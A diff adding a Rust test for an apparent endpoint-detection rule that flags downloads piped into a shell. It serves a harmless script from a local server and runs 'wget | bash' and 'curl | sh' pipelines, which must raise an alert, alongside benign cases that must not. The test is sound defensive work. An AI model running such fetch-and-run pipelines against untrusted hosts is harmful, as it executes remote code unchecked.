@@ -1,0 +1,85 @@
+//! A download piped into a shell, seen by the pipe itself (fd access): the pipelines whose
+//! command lines say nothing — run from a script file, typed into an interactive shell —
+//! fire; a download piped into grep, and a local file piped into a shell, do not.
+
+use std::process::{Command, Stdio};
+
+use super::{alerts, family, fired_on, observe, scratch_dir, server_port, PY};
+use crate::util::Kids;
+
+#[test]
+fn a_download_piped_into_a_shell_from_a_script_or_a_terminal_fires_by_its_pipe() {
+    let dir = scratch_dir();
+    // Downloads of a second or so (rate-limited): a downloader that lives a few ms can
+    // end before the collector reads its exec, and the pipe then names no downloader
+    // (a polling limit, in the rule's description), which is not what this test is about.
+    let padding = format!("# {}\n", "x".repeat(2000));
+    std::fs::write(dir.path().join("x.sh"), format!("{padding}sleep 2\n")).expect("payload");
+    let mut server = Command::new(PY)
+        .args(["-m", "http.server", "--bind", "127.0.0.1", "0"])
+        .current_dir(dir.path())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .expect("http.server");
+    let port = server_port(&mut server);
+    let _server = Kids(vec![server]);
+    let url = format!("http://127.0.0.1:{port}/x.sh");
+    let script = |name: &str, body: String| {
+        let path = dir.path().join(name);
+        std::fs::write(&path, body).expect("script");
+        Command::new("sh")
+            .arg(&path)
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .expect("sh")
+    };
+    let (records, kids) = observe(&[], || {
+        let typed = Command::new("script")
+            .args([
+                "-qc",
+                &format!("printf 'curl -fsS --limit-rate 2k {url} | sh\\nexit\\n' | bash -i"),
+                "/dev/null",
+            ])
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .spawn()
+            .expect("script");
+        Kids(vec![
+            script(
+                "attack.sh",
+                format!("wget -qO- --limit-rate=2k {url} | bash\n"),
+            ),
+            typed,
+            script(
+                "grep.sh",
+                format!("curl -fsS {url} | grep -q sleep; sleep 2\n"),
+            ),
+            script(
+                "local.sh",
+                format!("cat {} | sh\n", dir.path().join("x.sh").display()),
+            ),
+        ])
+    });
+    let all = alerts(&records);
+    for (i, what) in [(0, "a script's wget | bash"), (1, "a typed curl | sh")] {
+        let attack = family(&[kids.0[i].id()], &records);
+        assert!(
+            fired_on(&all, "PF-DOWNLOAD-SHELL", &attack),
+            "{what}: {all:?}"
+        );
+        let alerts_here = all
+            .iter()
+            .filter(|(r, p, _)| r == "PF-DOWNLOAD-SHELL" && p.is_some_and(|p| attack.contains(&p)))
+            .count();
+        assert_eq!(alerts_here, 1, "{what}: one pipeline, one alert: {all:?}");
+    }
+    for (i, what) in [(2, "curl | grep"), (3, "cat | sh")] {
+        let benign = family(&[kids.0[i].id()], &records);
+        assert!(
+            !fired_on(&all, "PF-DOWNLOAD-SHELL", &benign),
+            "{what}: {all:?}"
+        );
+    }
+}
